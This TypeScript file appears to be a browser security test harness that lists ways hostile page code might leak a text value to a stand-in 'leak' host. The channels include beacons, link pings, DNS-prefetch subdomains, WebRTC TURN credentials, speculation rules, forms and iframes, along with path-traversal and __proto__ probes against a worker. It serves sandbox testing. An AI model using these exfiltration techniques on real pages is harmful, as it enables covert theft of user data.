import type { HostileTries } from './hostile-try.ts';

/** What code can do that has turned hostile in a page, beyond `threadTries`. */
export const pageTries: HostileTries = {
  windows: ({ own, leak, text }) => {
    for (const one of [`${leak}/${text}`, `${own}/${text}`, `${own}/?${text}`, `https://huggingface.co/${text}`])
      for (const features of ['', 'noopener', 'popup']) window.open(one, '_blank', features);
  },
  links: ({ own, leak, text }) => {
    for (const address of [`${leak}/${text}`, `${own}/models.html?${text}`, `${own}/${text}`])
      for (const target of ['', '_blank', '_top']) {
        const link = Object.assign(document.createElement('a'), { href: address, target, ping: `${leak}/${text}` });
        document.body.append(link);
        link.click();
        link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true }));
        link.remove();
      }
  },
  forms: ({ own, leak, text }) => {
    for (const action of [`${leak}/${text}`, `${own}/models.html`, `${own}/fetch.html`])
      for (const target of ['', '_blank']) {
        const form = Object.assign(document.createElement('form'), { action, target, method: 'get' });
        const field = Object.assign(document.createElement('input'), { name: 'd', value: text });
        form.append(field);
        document.body.append(form);
        form.submit();
        form.remove();
      }
  },
  'leave-for-a-query': ({ own, leak, text }) => {
    for (const address of [`${leak}/${text}`, `${own}/models.html?${text}`, `${own}/?${text}`, `${own}/${text}`])
      location.assign(address);
  },
  elements: ({ own, leak, text }) => {
    for (const base of [leak, own])
      for (const [name, key] of [
        ['img', 'src'],
        ['script', 'src'],
        ['iframe', 'src'],
        ['embed', 'src'],
        ['object', 'data'],
        ['video', 'src'],
        ['track', 'src'],
      ] as const) {
        const element = document.createElement(name);
        element.setAttribute(key, `${base}/assets/${text}.js`);
        document.body.append(element);
      }
  },
  'link-elements': ({ own, leak, paths, text }) => {
    const rels = [
      'stylesheet',
      'preload',
      'prefetch',
      'modulepreload',
      'preconnect',
      'dns-prefetch',
      'manifest',
      'icon',
    ];
    for (const href of [
      `${leak}/${text}`,
      `${leak.replace('//', `//${text}.`)}/`,
      ...paths.map((path) => `${own}${path}?${text}`),
    ])
      for (const rel of rels) {
        const link = Object.assign(document.createElement('link'), { rel, href });
        if (rel === 'preload') link.setAttribute('as', 'fetch');
        document.head.append(link);
      }
  },
  'frame-with-text': async ({ own, leak, text }) => {
    for (const address of [
      `${own}/fetch.html?${text}`,
      `${own}/fetch.html/${text}`,
      `${own}/models.html?${text}`,
      `${leak}/${text}`,
    ]) {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      for (const there of document.querySelectorAll('iframe')) there.contentWindow?.location.replace(address);
    }
    const inner = document.createElement('iframe');
    inner.srcdoc = `<img src="${leak}/${text}"><meta http-equiv="refresh" content="0;url=${leak}/${text}">`;
    document.body.append(inner);
    await new Promise((resolve) => setTimeout(resolve, 300));
  },
  'click-in-the-frame': () => {
    for (const frame of document.querySelectorAll('iframe')) {
      frame.dispatchEvent(new MouseEvent('click', { bubbles: true }));
      frame.contentWindow?.postMessage({ id: 1, verb: 'list', args: {} }, '*');
      frame.contentWindow?.focus();
    }
  },
  'register-with-text': async ({ own, text }) => {
    const container = navigator.serviceWorker;
    await Promise.allSettled(
      [`/sw.js?build=${text}`, `/sw.js?${text}`, `/${text}.js`, `/sw.js?build=${text}#`].map(
        async (path) => await container.register(own + path, { scope: `/assets/${text}/` }),
      ),
    );
  },
  'update-with-a-cookie': async ({ text }) => {
    document.cookie = `text=${text}; max-age=1000`;
    await (window.cookieStore?.set('text', text) ?? Promise.resolve()).catch(() => {}); // refused, as it should be
    for (const one of await navigator.serviceWorker.getRegistrations()) await one.update().catch(() => {}); // the same
  },
  'peer-connection': async ({ leak, text }) => {
    const host = new URL(leak).host;
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${host}` }, { urls: `turn:${host}`, username: text, credential: text }],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  beacon: ({ own, leak, text }) => {
    navigator.sendBeacon(`${leak}/${text}`, text);
    navigator.sendBeacon(`${own}/assets/common.js`, text);
  },
  'speculation-rules': ({ own, leak, text }) => {
    const urls = [`${leak}/${text}`, `${own}/models.html?${text}`];
    const rules = { prefetch: [{ urls, eagerness: 'immediate' }], prerender: [{ urls, eagerness: 'immediate' }] };
    const script = Object.assign(document.createElement('script'), {
      type: 'speculationrules',
      textContent: JSON.stringify(rules),
    });
    document.head.append(script);
  },
  'any-path-of-the-site-thread': async ({ own, text }) => {
    const thread = new Worker(`${own}/assets/site.worker.js`, { type: 'module', name: text });
    await new Promise((resolve) => {
      thread.addEventListener('message', resolve, { once: true });
      thread.addEventListener('error', resolve, { once: true });
    });
    const asks: [string, unknown][] = [
      ['keep', { path: `/assets/${text}.js` }],
      ['keep', { path: `/assets/common.js?${text}` }],
      ['keep', { path: [text] }],
      ['manifest', { modelId: text }],
      ['manifest', { modelId: `../${text}` }],
      ['part', { modelId: text, partName: text }],
      ['part', { modelId: '__proto__', partName: 'constructor' }],
      ['constructor', { text }],
      ['__proto__', { text }],
    ];
    for (const [index, [verb, args]] of asks.entries()) thread.postMessage({ id: index + 1, verb, args });
    await new Promise((resolve) => setTimeout(resolve, 500));
    thread.terminate();
  },
};
